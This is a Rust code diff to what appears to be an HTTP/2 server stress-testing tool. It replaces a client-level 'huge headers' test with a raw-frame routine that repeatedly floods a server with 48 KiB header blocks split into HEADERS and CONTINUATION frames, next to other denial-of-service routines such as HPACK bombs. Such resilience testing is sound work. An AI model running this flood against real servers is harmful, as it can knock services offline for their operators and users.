@@ -125,6 +125,7 @@ impl Attack {
                 .await;
             }
             Self::HugeHeaders if number.is_multiple_of(2) => return hpack_bomb(address).await,
+            Self::HugeHeaders => return huge_headers(address).await,
             _ => {}
         }
         let window = if matches!(self, Self::SlowReaders | Self::SilentWatchers) { 0 } else { 65_535 };
@@ -187,14 +188,6 @@ impl Attack {
                     if held.len() >= 16 {
                         sleep(Duration::from_secs(60)).await;
                     }
-                }
-                Self::HugeHeaders => {
-                    let mut request = request(GET);
-                    for number in 0..12 {
-                        let name = http::HeaderName::try_from(format!("x-much-{number}"))?;
-                        request.headers_mut().insert(name, "y".repeat(4 << 10).parse()?);
-                    }
-                    drop(sender.send_request(request, true)?);
                 }
                 Self::HugeMessages => {
                     let (response, mut body) = sender.send_request(request(PUT), false)?;
@@ -309,6 +302,33 @@ async fn continuations(address: SocketAddr) -> Result<(), Box<dyn std::error::Er
         stream.write_all(&more).await?;
         tokio::task::yield_now().await;
     }
+}
+
+/// Calls with 48 KiB of headers each, prepared: packing them costs whoever sends them more than reading them costs anybody.
+async fn huge_headers(address: SocketAddr) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
+    let mut stream = TcpStream::connect(address).await?;
+    stream.write_all(GREETING).await?;
+    let mut block = headers(GET, true);
+    for number in 0..12 {
+        // A literal field without indexing: a name of 9 octets, a value of 4,096 (length 127 + 3,969, as a varint).
+        block.extend([0x00, 9]);
+        block.extend(format!("x-much-{number:02}").as_bytes());
+        block.extend([0x7f, 0x81, 0x1f]);
+        block.extend([b'y'; 4 << 10]);
+    }
+    for id in (1_u32..).step_by(2) {
+        let parts: Vec<_> = block.chunks(16 << 10).collect();
+        let mut call = Vec::with_capacity(block.len() + 64);
+        for (at, part) in parts.iter().enumerate() {
+            // HEADERS first, which also end the stream, then CONTINUATION; the last one ends the headers.
+            let kind = if at == 0 { 0x1 } else { 0x9 };
+            let flags = u8::from(at == 0) | if at + 1 == parts.len() { 0x4 } else { 0 };
+            call.extend(frame(kind, flags, id, part));
+        }
+        stream.write_all(&call).await?;
+        tokio::task::yield_now().await;
+    }
+    Ok(())
 }
 
 /// One long field put into the table of HPACK, and then named thousands of times.
